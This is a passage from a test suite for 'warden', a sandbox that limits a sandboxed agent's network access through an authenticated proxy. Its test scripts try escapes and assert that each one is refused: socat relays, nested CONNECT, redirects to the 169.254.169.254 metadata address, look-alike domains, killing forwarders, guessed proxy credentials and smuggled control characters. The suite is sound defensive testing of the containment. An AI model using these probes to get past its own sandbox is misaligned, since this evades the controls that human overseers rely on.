    expect(serverE?.hits ?? []).toEqual([]);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    const blocked = denied(events).filter((d) => d.reason === 'blocked_address');
    expect(blocked).toHaveLength(blockedTargets.length + 1);
    expect(blocked.find((d) => d.host === 'metadata.warden.test' && d.protocol === 'http')?.detail).toContain(
      '169.254.169.254',
    );
  });

  it('NET-07 the run summary names the address a blocked name resolved to and the entry that admits it; that entry does', async () => {
    const P = serverA.port;
    const hosts = ['127.0.0.2 mirror.warden.test'];
    const code = `${PY_PRELUDE}
connect_get('mirror', 'mirror.warden.test:%d' % CFG['P'], path='/mirror')
`;
    const argsWith = (extra: readonly string[]) => [
      'run',
      '--allow-domain',
      `mirror.warden.test:${P}`,
      ...extra,
      '--',
      '/usr/bin/python3',
      '-c',
      code,
      JSON.stringify({ P }),
    ];
    const refused = await wardenWithHosts(mode, hosts, argsWith([]), { cwd: workspace });
    expectRan(refused);
    expect(get(refused, 'mirror')).toMatchObject({ status: 403, reason: 'blocked_address' });
    const entry = `127.0.0.2:${P}`;
    expect(refused.summary?.egress.denied_targets).toEqual([
      {
        host: 'mirror.warden.test',
        port: P,
        reason: 'blocked_address',
        count: 1,
        blocked: { address: '127.0.0.2', range: 'loopback', allow_entry: entry },
      },
    ]);
    // The human summary says it too, not only `audit show`.
    expect(refused.stderr).toContain(
      `blocked: mirror.warden.test:${P} resolved to 127.0.0.2 (loopback); to allow it add '${entry}' to network.allow (or --allow-domain ${entry}), only if you trust that address`,
    );
    expect(serverA.hits).toEqual([]);

    // The entry the summary names is the one that admits exactly that address.
    const admitted = await wardenWithHosts(mode, hosts, argsWith(['--allow-domain', entry]), { cwd: workspace });
    expectRan(admitted);
    expect(get(admitted, 'mirror')).toMatchObject({ status: 200, inner: 200, body: 'A /mirror\n' });
    expect(admitted.stderr).not.toContain('blocked:');
  });

  it('NET-08 *.example.com matches subdomains only, not look-alikes', async () => {
    const P = serverA.port;
    const hosts = [
      'a.warden.test',
      'x.y.warden.test',
      'warden.test',
      'warden.test.evil.example',
      'evilwarden.test',
      'a.warden.test.evil.example',
    ].map((h) => `127.0.0.2 ${h}`);
    const code = `${PY_PRELUDE}
P = CFG['P']
for name, target in [('sub', 'a.warden.test'), ('deep', 'x.y.warden.test'), ('case', 'A.Warden.TEST'),
                     ('apex', 'warden.test'), ('suffix', 'warden.test.evil.example'), ('glued', 'evilwarden.test'), ('sub_suffix', 'a.warden.test.evil.example')]:
    connect_get(name, '%s:%d' % (target, P), path='/' + name)
connect_get('sub_other_port', 'a.warden.test:%d' % CFG['P2'], path='/sub_other_port')
`;
    const args = [
      'run',
      '--allow-domain',
      `*.warden.test:${P}`,
      '--allow-domain',
      `127.0.0.2:${P}`,
      '--',
      '/usr/bin/python3',
      '-c',
      code,
      JSON.stringify({ P, P2: serverA2.port }),
    ];
    const run = await wardenWithHosts(mode, hosts, args, { cwd: workspace });
    expectRan(run);
    for (const name of ['sub', 'deep', 'case'])
      expect(get(run, name), name).toMatchObject({ status: 200, inner: 200, body: `A /${name}\n` });
    for (const name of ['apex', 'suffix', 'glued', 'sub_suffix'])
      expect(get(run, name), name).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'sub_other_port')).toMatchObject({ status: 403, reason: 'port_not_allowed' });
    expect(paths(serverA)).toEqual(['/sub', '/deep', '/case']);
    expect(serverA2.hits).toEqual([]);
  });

  it('NET-08 * and public-suffix wildcards are rejected by the CLI and by the config', async () => {
    for (const pattern of ['*', '*.com', '*.co.uk', '*.*.example.com', 'a*.example.com', '*example.com']) {
      const run = await runShell(mode, workspace, 'touch ran', ['--allow-domain', pattern]);
      expect(run.code, pattern).toBe(2);
      expect(run.stderr, pattern).toContain(`--allow-domain '${pattern}'`);
      expect(existsSync(join(workspace, 'ran')), pattern).toBe(false);
    }
    const config = join(workspace, '..', 'warden.yaml');
    for (const pattern of ['*', '*.com', '*.co.uk']) {
      writeFileSync(config, `version: 1\nprofiles:\n  default:\n    network:\n      allow: ['${pattern}']\n`);
      const run = await warden(mode, ['--config', config, 'run', '--', '/bin/sh', '-c', 'touch ran'], {
        cwd: workspace,
      });
      expect(run.code, pattern).toBe(2);
      expect(run.stderr, pattern).toMatch(/CONFIG_INVALID/);
      expect(existsSync(join(workspace, 'ran')), pattern).toBe(false);
    }
    // Control: a registrable domain's wildcard is accepted, from both places.
    writeFileSync(config, "version: 1\nprofiles:\n  default:\n    network:\n      allow: ['*.example.com']\n");
    const ok = await warden(
      mode,
      ['--config', config, 'run', '--allow-domain', '*.example.org', '--', '/bin/sh', '-c', 'touch ran'],
      { cwd: workspace },
    );
    expect(ok.code, ok.stderr).toBe(0);
    expect(existsSync(join(workspace, 'ran'))).toBe(true);
  });

  it("NET-09 the proxy cannot be used from outside the sandbox without the run's credential (407)", async () => {
    const script = 'echo $WARDEN_RUN_ID > run-id; echo $HTTP_PROXY > proxy-url; while [ ! -e go ]; do sleep 0.05; done';
    const running = runShell(mode, workspace, script, ['--allow-domain', `127.0.0.2:${serverA.port}`]);
    try {
      expect(
        await waitFor(
          () =>
            existsSync(join(workspace, 'proxy-url')) &&
            readFileSync(join(workspace, 'proxy-url'), 'utf8').endsWith('\n'),
          15_000,
        ),
      ).toBe(true);
      const runId = readFileSync(join(workspace, 'run-id'), 'utf8').trim();
      const credential = decodeURIComponent(
        new URL(readFileSync(join(workspace, 'proxy-url'), 'utf8').trim()).password,
      );
      const socket = proxySocketPath(mode, runId);
      expect(lstatSync(socket).isSocket()).toBe(true);
      const target = `http://127.0.0.2:${serverA.port}`;
      const basic = (user: string, password: string): string =>
        `Proxy-Authorization: Basic ${Buffer.from(`${user}:${password}`).toString('base64')}\r\n`;
      const httpGet = (path: string, auth: string): string =>
        `GET ${target}${path} HTTP/1.1\r\nHost: 127.0.0.2:${serverA.port}\r\nConnection: close\r\n${auth}\r\n`;
      const noAuth = await exchange(socket, httpGet('/no-credential', ''));
      const wrong = await exchange(socket, httpGet('/wrong-credential', basic('warden', 'f'.repeat(64))));
      const wrongUser = await exchange(socket, httpGet('/wrong-user', basic('admin', credential)));
      const connectNoAuth = await exchange(
        socket,
        `CONNECT 127.0.0.2:${serverA.port} HTTP/1.1\r\nHost: 127.0.0.2:${serverA.port}\r\n\r\n`,
      );
      const socksNoAuth = await exchange(socket, Buffer.from([5, 1, 0]));
      const socksWrong = await exchange(
        socket,
        Buffer.concat([
          Buffer.from([5, 1, 2]),
          Buffer.from([1, 6]),
          Buffer.from('warden'),
          Buffer.from([5]),
          Buffer.from('guess'),
        ]),
      );
      for (const [what, reply] of [
        ['no credential', noAuth],
        ['wrong credential', wrong],
        ['wrong user', wrongUser],
        ['CONNECT without credential', connectNoAuth],
      ] as const) {
        expect(reply.toString('latin1'), what).toMatch(/^HTTP\/1\.1 407 /);
        expect(reply.toString('latin1'), what).toMatch(/proxy-authenticate: Basic realm="warden"/i);
      }
      expect([...socksNoAuth]).toEqual([5, 0xff]);
      expect([...socksWrong]).toEqual([5, 2, 1, 1]);
      // Control: this is the run's live proxy, and the credential is what the 407 is about.
      const withCredential = await exchange(socket, httpGet('/with-credential', basic('warden', credential)));
      expect(withCredential.toString('latin1')).toMatch(/^HTTP\/1\.1 200 [^]*A \/with-credential\n$/);
      expect(paths(serverA)).toEqual(['/with-credential']);
      // Another user on the host cannot even open the socket.
      const other = userIds(mode === 'root' ? TEST_USER : SANDBOX_USER);
      if (other !== null) {
        const probe = await hostPython(
          `import socket, sys\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(sys.argv[1]); print('CONNECT=ok')\nexcept OSError as e:\n    print('CONNECT=' + type(e).__name__)`,
          [socket],
          other,
        );
        expect(probeValues(probe.stdout).get('CONNECT'), probe.stderr).toBe('PermissionError');
      }
    } finally {
      writeFileSync(join(workspace, 'go'), '');
      giveToSandbox(mode, join(workspace, 'go'));
    }
    const run = await running;
    expectRan(run);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    const authFailures = denied(events).filter((d) => d.reason === 'auth_failed');
    expect(authFailures.length).toBeGreaterThanOrEqual(5);
    expect(run.summary?.egress.denied).toBe(6);
    expect(run.summary?.egress.allowed).toBe(1);
  });

  it('NET-10 a relay inside the sandbox (CONNECT through CONNECT, a local forwarder) gains nothing', async () => {
    const code = `${PY_PRELUDE}
import subprocess
P, B = CFG['P'], CFG['B']
# CONNECT inside an allowed tunnel reaches the allowed server, not the proxy.
s, status, reason, rest = connect('127.0.0.2:%d' % P)
s.sendall(('CONNECT 127.0.0.3:%d HTTP/1.1\\r\\nHost: 127.0.0.3:%d\\r\\n%s\\r\\n' % (B, B, auth_line())).encode())
head, _ = read_head(s)
out('nested_connect', outer=status, inner=status_of(head), line=head.split('\\r\\n')[0])
s.close()
# The proxy as a target of itself.
connect_get('proxy_itself', '127.0.0.1:3128')
connect_get('proxy_itself_name', 'localhost:3128')
proxy_get('proxy_itself_http', 'http://127.0.0.1:3128/')
# Forwarders the agent starts: to the TCP endpoint and straight to the unix socket.
relays = [subprocess.Popen(['socat', 'TCP-LISTEN:9999,bind=127.0.0.1,fork,reuseaddr', 'TCP:127.0.0.1:3128']),
          subprocess.Popen(['socat', 'TCP-LISTEN:9998,bind=127.0.0.1,fork,reuseaddr', 'UNIX-CONNECT:/run/warden/sock/egress.sock'])]
for port in (9999, 9998):
    for i in range(200):
        if direct('127.0.0.1', port) == 'connected':
            break
        time.sleep(0.02)
for port in (9999, 9998):
    relay = ('127.0.0.1', port)
    proxy_get('relay_%d_denied' % port, 'http://127.0.0.3:%d/relay-%d' % (B, port), addr=relay)
    connect_get('relay_%d_connect_denied' % port, '127.0.0.3:%d' % B, addr=relay)
    proxy_get('relay_%d_no_auth' % port, 'http://127.0.0.2:%d/relay-no-auth-%d' % (P, port), addr=relay, send_auth=False)
    proxy_get('relay_%d_allowed' % port, 'http://127.0.0.2:%d/relay-ok-%d' % (P, port), addr=relay)
for r in relays:
    r.kill()
`;
    const run = await runPython(mode, workspace, code, { P: serverA.port, B: serverB.port }, [
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
    ]);
    expectRan(run);
    expect(get(run, 'nested_connect')).toMatchObject({ outer: 200, inner: 405 });
    expect(get(run, 'nested_connect').line).toContain('A is no proxy');
    expect(get(run, 'proxy_itself')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'proxy_itself_name')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'proxy_itself_http')).toMatchObject({ status: 403, reason: 'not_allowed' });
    for (const port of [9999, 9998]) {
      expect(get(run, `relay_${port}_denied`)).toMatchObject({ status: 403, reason: 'not_allowed' });
      expect(get(run, `relay_${port}_connect_denied`)).toMatchObject({ status: 403, reason: 'not_allowed' });
      expect(get(run, `relay_${port}_no_auth`)).toMatchObject({ status: 407, reason: 'auth_failed' });
      // Control: the relay itself works; it simply adds nothing to what the proxy allows.
      expect(get(run, `relay_${port}_allowed`)).toMatchObject({ status: 200, body: `A /relay-ok-${port}\n` });
    }
    expect(serverA.hits).toEqual([
      { method: 'CONNECT', url: `127.0.0.3:${serverB.port}`, host: `127.0.0.3:${serverB.port}` },
      expect.objectContaining({ url: '/relay-ok-9999' }),
      expect.objectContaining({ url: '/relay-ok-9998' }),
    ]);
    expect(serverB.hits).toEqual([]);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    expect(allowed(events).every((e) => e.host === '127.0.0.2' && e.port === serverA.port)).toBe(true);
    expect(denied(events).filter((d) => d.host === '127.0.0.3')).toHaveLength(4);
  });

  it('NET-11 redirects from an allowed host to a host that is not allowed are refused', async () => {
    const P = serverA.port;
    const code = `${PY_PRELUDE}
import subprocess
for name in ('same', 'ip', 'name', 'meta', 'https'):
    c = subprocess.run(['curl', '-s', '-L', '--max-redirs', '3', '-o', 'body-' + name, '-w', '%{http_code} %{http_connect} %{num_redirects}',
                        'http://127.0.0.2:%d/redir-%s' % (CFG['P'], name)], capture_output=True, text=True)
    out(name, curl=c.returncode, result=c.stdout, body=open('body-' + name).read() if os.path.exists('body-' + name) else None)
import urllib.request, urllib.error
try:
    urllib.request.urlopen('http://127.0.0.2:%d/redir-ip' % CFG['P'], timeout=10)
    out('urllib', status=200)
except urllib.error.HTTPError as e:
    out('urllib', status=e.code, url=e.url)
`;
    const args = [
      'run',
      '--allow-domain',
      `127.0.0.2:${P}`,
      '--',
      '/usr/bin/python3',
      '-c',
      code,
      JSON.stringify({ P }),
    ];
    const run = await wardenWithHosts(mode, ['127.0.0.3 other.warden.test'], args, { cwd: workspace });
    expectRan(run);
    // Control: a redirect within the allowed host is followed.
    expect(get(run, 'same')).toMatchObject({ curl: 0, result: '200 000 1', body: 'A /final\n' });
    for (const name of ['ip', 'name', 'meta']) {
      expect(get(run, name), name).toMatchObject({ curl: 0, result: '403 000 1' });
      expect(get(run, name).body, name).toContain('is not allowed by the profile');
    }
    expect(get(run, 'https').curl).toBe(56);
    expect(get(run, 'https').result).toMatch(/^000 403 1$/);
    expect(get(run, 'urllib')).toMatchObject({ status: 403, url: `http://127.0.0.3:${serverB.port}/secret-ip` });
    expect(serverB.hits).toEqual([]);
    expect(paths(serverA)).toEqual([
      '/redir-same',
      '/final',
      '/redir-ip',
      '/redir-name',
      '/redir-meta',
      '/redir-https',
      '/redir-ip',
    ]);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    expect(
      denied(events).map((d) => `${String(d.protocol)} ${String(d.host)}:${String(d.port)} ${String(d.reason)}`),
    ).toEqual([
      `http 127.0.0.3:${serverB.port} not_allowed`,
      `http other.warden.test:${serverB.port} not_allowed`,
      'http 169.254.169.254:80 not_allowed',
      `connect 127.0.0.3:${serverB.port} not_allowed`,
      `http 127.0.0.3:${serverB.port} not_allowed`,
    ]);
  });

  it('NET-12 proxy down means no network: with the proxy socket gone nothing gets out', async () => {
    const code = `${PY_PRELUDE}
import subprocess
P = CFG['P']
proxy_get('before', 'http://127.0.0.2:%d/before' % P)
open('run-id', 'w').write(os.environ['WARDEN_RUN_ID'] + '\\n')
for i in range(400):
    if os.path.exists('go'):
        break
    time.sleep(0.05)
out('waited', go=os.path.exists('go'))
proxy_get('after', 'http://127.0.0.2:%d/after' % P)
connect_get('after_connect', '127.0.0.2:%d' % P, path='/after-connect')
c = subprocess.run(['curl', '-s', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', 'http://127.0.0.2:%d/after-curl' % P], capture_output=True, text=True)
out('after_curl', code=c.returncode, http=c.stdout)
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect('/run/warden/sock/egress.sock')
out('socket_file', result=errname(unix))
out('direct', allowed_server=direct('127.0.0.2', P), internet=direct('1.1.1.1', 443), host=direct(CFG['host'], CFG['hostPort']) if CFG['host'] else 'ENETUNREACH')
`;
    const config = { P: serverA.port, host: serverE === null ? null : hostAddress, hostPort: serverE?.port ?? 0 };
    const running = runPython(mode, workspace, code, config, ['--allow-domain', `127.0.0.2:${serverA.port}`]);
    try {
      expect(
        await waitFor(
          () => existsSync(join(workspace, 'run-id')) && readFileSync(join(workspace, 'run-id'), 'utf8').endsWith('\n'),
          15_000,
        ),
      ).toBe(true);
      const socket = proxySocketPath(mode, readFileSync(join(workspace, 'run-id'), 'utf8').trim());
      expect(lstatSync(socket).isSocket()).toBe(true);
      rmSync(socket);
    } finally {
      writeFileSync(join(workspace, 'go'), '');
      giveToSandbox(mode, join(workspace, 'go'));
    }
    const run = await running;
    expectRan(run);
    expect(get(run, 'before')).toMatchObject({ status: 200, body: 'A /before\n' });
    expect(get(run, 'waited').go).toBe(true);
    expect(get(run, 'after').status).not.toBe(200);
    expect(get(run, 'after_connect').status).not.toBe(200);
    expect(get(run, 'after_curl').http).toBe('000');
    expect(get(run, 'after_curl').code).not.toBe(0);
    expect(get(run, 'socket_file').result).toBe('ENOENT');
    expect(get(run, 'direct')).toEqual({
      name: 'direct',
      allowed_server: 'ECONNREFUSED',
      internet: 'ENETUNREACH',
      host: 'ENETUNREACH',
    });
    expect(paths(serverA)).toEqual(['/before']);
    expect(serverE?.hits ?? []).toEqual([]);
  });

  it('NET-12 killing the in-sandbox forwarder leaves no network either', async () => {
    const code = `${PY_PRELUDE}
P = CFG['P']
proxy_get('before', 'http://127.0.0.2:%d/before' % P)
me = os.getpid()
forwarders = []
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) not in (1, me):
        try:
            comm = open('/proc/%s/comm' % pid).read().strip()
        except OSError:
            continue
        if comm in ('warden-init', 'socat'):
            forwarders.append(int(pid))
for pid in forwarders:
    os.kill(pid, signal.SIGKILL)
for i in range(200):
    if direct('127.0.0.1', 3128) != 'connected':
        break
    time.sleep(0.02)
out('killed', forwarders=len(forwarders))
proxy_get('after', 'http://127.0.0.2:%d/after' % P)
# The agent takes the port over: it only ever talks to itself.
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
out('rebind', result=errname(lambda: srv.bind(('127.0.0.1', 3128))))
out('direct', allowed_server=direct('127.0.0.2', P), internet=direct('1.1.1.1', 443))
`;
    const run = await runPython(mode, workspace, code, { P: serverA.port }, [
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
    ]);
    expectRan(run);
    expect(get(run, 'before')).toMatchObject({ status: 200 });
    expect(Number(get(run, 'killed').forwarders)).toBeGreaterThanOrEqual(1);
    expect(get(run, 'after')).toMatchObject({ status: -1, error: 'ECONNREFUSED' });
    expect(get(run, 'rebind').result).toBe('ok');
    expect(get(run, 'direct')).toEqual({ name: 'direct', allowed_server: 'ECONNREFUSED', internet: 'ENETUNREACH' });
    expect(paths(serverA)).toEqual(['/before']);
  });

  it('AUD-06 requests the proxy parser refuses (control characters, bidi marks) are answered 400 and recorded, escaped', async () => {
    const code = `${PY_PRELUDE}
s, status, reason, rest = connect('evil\\u202e.example:443')
out('bidi_connect', status=status, reason=reason)
s.close()
s = proxy_socket(PROXY)
s.sendall(('GET http://127.0.0.2:%d/a\\x01b HTTP/1.1\\r\\nHost: 127.0.0.2\\r\\n%s\\r\\n' % (CFG['P'], auth_line())).encode())
head, _ = read_head(s)
out('control_get', status=status_of(head), reason=header(head, 'x-warden-deny-reason'))
`;
    const run = await runPython(mode, workspace, code, { P: serverA.port }, [
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
    ]);
    expectRan(run);
    expect(get(run, 'bidi_connect')).toMatchObject({ status: 400, reason: 'bad_request' });
    expect(get(run, 'control_get')).toMatchObject({ status: 400, reason: 'bad_request' });
    expect(serverA.hits).toEqual([]);
    const refusals = denied(await auditEvents(mode, workspace, runIdOf(run))).filter((d) => d.reason === 'bad_request');
    expect(refusals.map((d) => d.protocol)).toEqual(['connect', 'http']);
    expect(String(refusals[0]?.detail)).toContain('CONNECT evil\\xe2\\x80\\xae.example:443 HTTP/1.1');
    expect(String(refusals[1]?.detail)).toContain('/a\\x01b HTTP/1.1');
    expect(run.summary?.egress.denied).toBe(2);
  });
});

/** Sends `data` on a fresh connection to a unix socket and returns everything received until it closes (or 5 s pass). */
function exchange(path: string, data: string | Buffer): Promise<Buffer> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const socket = netConnect(path);
    const done = (): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(Buffer.concat(chunks));
    };
    const timer = setTimeout(done, 5_000);
    socket.on('connect', () => socket.write(data));
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', done);
    socket.on('close', done);
  });
}
